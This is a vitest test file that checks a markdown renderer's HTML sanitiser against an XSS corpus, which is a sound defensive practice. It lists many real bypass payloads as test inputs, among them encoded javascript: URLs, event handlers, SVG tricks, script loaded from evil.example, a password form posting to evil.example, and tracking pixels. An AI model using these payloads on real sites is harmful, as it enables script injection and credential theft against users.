import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown.server";

// What the sanitiser may let through, checked on the output as a browser's parser reads it
// (entities decoded), whatever trick the input used.
const allowedTags = new Set([
  "h2", "h3", "h4", "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote",
  "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td",
]);
const allowedAttributes: Record<string, Set<string>> = {
  a: new Set(["href", "title", "rel"]),
  img: new Set(["src", "alt", "title", "width", "height"]),
  th: new Set(["align"]),
  td: new Set(["align"]),
  ol: new Set(["start"]),
};

/** A URL as a browser reads it: without the whitespace and control characters it ignores. */
function browserUrl(value: string): string {
  // eslint-disable-next-line no-control-regex
  return value.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase();
}

/** Everything in `html` that could run script or leave the page's control; empty when safe. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (!allowedTags.has(name)) found.push(`tag <${name}>`);
        for (const [attribute, value] of Object.entries(attribs)) {
          if (!allowedAttributes[name]?.has(attribute)) found.push(`attribute ${attribute} on <${name}>`);
          if (attribute === "href") {
            const url = browserUrl(value);
            if (!/^(https?:|mailto:|\/(?!\/)|#)/.test(url) && /^[a-z][a-z0-9+.-]*:/.test(url)) found.push(`href ${value}`);
            if (url.startsWith("//")) found.push(`protocol-relative href ${value}`);
          }
          if (attribute === "src" && !/^\/media\/[0-9a-f-]{36}(\?w=\d+)?$/.test(value)) found.push(`src ${value}`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

const MEDIA = "/media/0b6f1c1e-8d4a-4c53-9a57-2f1f3e6b9c10";

// Each entry: input -> nothing executable may survive. Grouped as the brief's corpus.
const corpus: Record<string, string[]> = {
  script: [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "```html\n<script>alert(1)</script>\n```\n\n<script>alert(2)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
  ],
  "event handlers": [
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\">click</p>",
    "<a href=\"https://example.org\" onmouseover=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div/onmouseover='alert(1)'>x</div>",
    "<img src=\"" + MEDIA + "\" ONERROR=alert(1)>",
  ],
  "javascript: and data: URLs": [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<img src=\"javascript:alert(1)\">",
    "[x]: javascript:alert(1)\n\n[link][x]",
    "<javascript:alert(1)>",
    "<a href=\"//evil.example\">x</a>",
    "[x](//evil.example)",
  ],
  "SVG and MathML": [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  ],
  "iframe, object, embed": [
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<applet code=x></applet>",
  ],
  style: [
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
  ],
  "img srcset and other image sources": [
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=\"" + MEDIA + "\" srcset=\"https://evil.example/track.png 2x\">",
    "<picture><source srcset=\"https://evil.example/x.png\"></picture>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "![tracker](https://evil.example/pixel.png)",
    "<img src=\"https://evil.example/pixel.png\">",
  ],
  "forms and inputs": [
    "<form action=\"https://evil.example\"><input name=password type=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select onchange=alert(1)><option>x</option></select>",
    "- [x] a task list item",
  ],
  "meta, base and refresh": [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
  ],
  "links with target": [
    "<a href=\"https://example.org\" target=\"_blank\">x</a>",
    "<a href=\"https://example.org\" target=\"_top\" rel=\"opener\">x</a>",
    "<a href=\"https://example.org\" ping=\"https://evil.example\">x</a>",
    "<a href=\"https://example.org\" download>x</a>",
  ],
};

describe("renderMarkdown against an XSS corpus", () => {
  for (const [group, inputs] of Object.entries(corpus)) {
    it(`lets nothing executable through: ${group}`, () => {
      for (const input of inputs) {
        const html = renderMarkdown(input);
        expect(dangers(html), `${input}\n=> ${html}`).toEqual([]);
        // Nothing that reads as script in any form, even as text inside a kept attribute.
        expect(html, input).not.toMatch(/<script|<svg|<iframe|<object|<embed|<style|<meta|<base|<form|<input|srcdoc|srcset/i);
      }
    });
  }

  it("keeps the post's own content: text, links with rel, our images", () => {
    const html = renderMarkdown(`Read [the guide](https://example.org/guide) or [our FAQ](/mentor-support#payments).\n\n![A campus in autumn](${MEDIA})`);
    expect(html).toContain('<a href="https://example.org/guide" rel="noopener noreferrer nofollow">the guide</a>');
    expect(html).toContain('<a href="/mentor-support#payments">our FAQ</a>');
    expect(html).toContain(`<img src="${MEDIA}" alt="A campus in autumn" />`);
  });

  it("removes a whole image whose source is not one of ours, keeping the text around it", () => {
    const html = renderMarkdown("Before ![tracker](https://evil.example/pixel.png) after");
    expect(html.trim()).toBe("<p>Before  after</p>");
  });

  it("sets rel on every external link, replacing what the author wrote", () => {
    const html = renderMarkdown('<a href="https://example.org" rel="opener">x</a>');
    expect(html.trim()).toBe('<p><a href="https://example.org" rel="noopener noreferrer nofollow">x</a></p>');
  });
});
